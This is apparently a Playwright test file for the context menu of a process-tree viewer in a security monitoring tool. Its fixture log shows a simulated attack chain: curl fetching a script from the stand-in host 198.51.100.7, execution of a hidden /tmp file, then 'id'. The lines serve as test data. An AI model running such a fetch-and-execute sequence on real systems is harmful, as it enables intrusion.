import { drawLog } from '../src/testing/draw-log'
import { expect, test, withLog } from './helpers/test'
import { boxOf } from './helpers/viewer'

const log = drawLog(`
  pod default/xwing container 1fb931d2 node n1
    10 /bin/bash 0s..100s
      11 /usr/bin/curl -s http://198.51.100.7/s.sh 10s..20s exit 22
      12 /bin/sh /tmp/.x 40s..60s
        13 /usr/bin/id 45s..50s
  host n1
    2 /usr/sbin/cron 41s..
`)

withLog(log.text)

test('a right click on a label shows what can be done with the row, and does it', async ({ viewer, page }) => {
  const menu = page.getByRole('menu', { name: 'Row' })
  await viewer.row('/usr/bin/curl').click({ button: 'right', position: { x: 150, y: 8 } })
  await expect(viewer.row('/usr/bin/curl')).toHaveAttribute('aria-selected', 'true')
  await expect(menu.getByRole('menuitem').first()).toBeFocused()
  await menu.getByRole('menuitem', { name: 'Copy the arguments' }).click()
  await expect(menu).toHaveCount(0)
  await expect.poll(() => viewer.clipboard()).toBe('-s http://198.51.100.7/s.sh')
  await viewer.row('/usr/bin/curl').click({ button: 'right', position: { x: 150, y: 8 } })
  await menu.getByRole('menuitem', { name: 'Not this binary' }).click()
  await expect(viewer.filter).toHaveValue(/^(not |-)binary:.*curl/)
  await expect(viewer.row('/usr/bin/curl')).toHaveCount(0)
})

test('all below a row is collapsed by the menu and by its key, and the row stays open', async ({ viewer, page }) => {
  await viewer.row('default/xwing').click({ button: 'right', position: { x: 150, y: 8 } })
  await page.getByRole('menuitem', { name: 'Collapse all below' }).click()
  await expect(viewer.row('default/xwing')).toHaveAttribute('aria-expanded', 'true')
  await expect(viewer.row('/bin/bash')).toHaveAttribute('aria-expanded', 'false')
  await viewer.selectRow('/bin/bash')
  await viewer.focusTree()
  await page.keyboard.press('ArrowRight')
  await expect(viewer.row('/bin/sh')).toHaveAttribute('aria-expanded', 'false')
  await page.keyboard.press('*')
  await expect(viewer.row('/usr/bin/id')).toBeVisible()
  await page.keyboard.press('_')
  await expect(viewer.row('/bin/bash')).toHaveAttribute('aria-expanded', 'true')
  await expect(viewer.row('/bin/sh')).toHaveAttribute('aria-expanded', 'false')
})

test('Shift+F10 opens it, arrows walk it, Escape gives the focus back', async ({ viewer, page }) => {
  await viewer.selectRow('/bin/sh')
  await viewer.focusTree()
  await page.keyboard.press('Shift+F10')
  const items = page.getByRole('menuitem')
  await expect(items.first()).toBeFocused()
  await page.keyboard.press('ArrowUp')
  await expect(items.last()).toBeFocused()
  await page.keyboard.press('ArrowDown')
  await page.keyboard.press('ArrowDown')
  await expect(page.getByRole('menuitem', { name: 'Collapse', exact: true })).toBeFocused()
  await page.keyboard.press('Enter')
  await expect(items).toHaveCount(0)
  await expect(viewer.row('/bin/sh')).toHaveAttribute('aria-expanded', 'false')
  await page.keyboard.press('ContextMenu')
  await page.keyboard.press('h') // the item that begins so
  await expect(page.getByRole('menuitem', { name: 'Hide with all below' })).toBeFocused()
  await page.keyboard.press('Escape')
  await expect(items).toHaveCount(0)
  await expect(viewer.tree).toBeFocused()
})

test('it opens on spans and on packed lanes, and closes when they scroll', async ({ viewer, page }) => {
  const at = await viewer.pointOn(viewer.row('default/xwing'), 0.5)
  await page.mouse.click(at.x, at.y, { button: 'right' })
  const items = page.getByRole('menuitem')
  await page.getByRole('menuitem', { name: 'Show in packed lanes' }).click()
  await expect(viewer.lanes).toBeVisible()
  await viewer.waitForIdle()
  const canvas = await boxOf(viewer.canvas)
  await page.mouse.click(canvas.x + canvas.width / 2, canvas.y + 26, { button: 'right' })
  await expect(page.getByRole('menuitem', { name: 'Only this binary' })).toBeVisible()
  await page.mouse.wheel(0, 50)
  await expect(items).toHaveCount(0)
  await expect(viewer.details.getByRole('heading', { level: 2 })).toHaveText('/bin/bash')
})
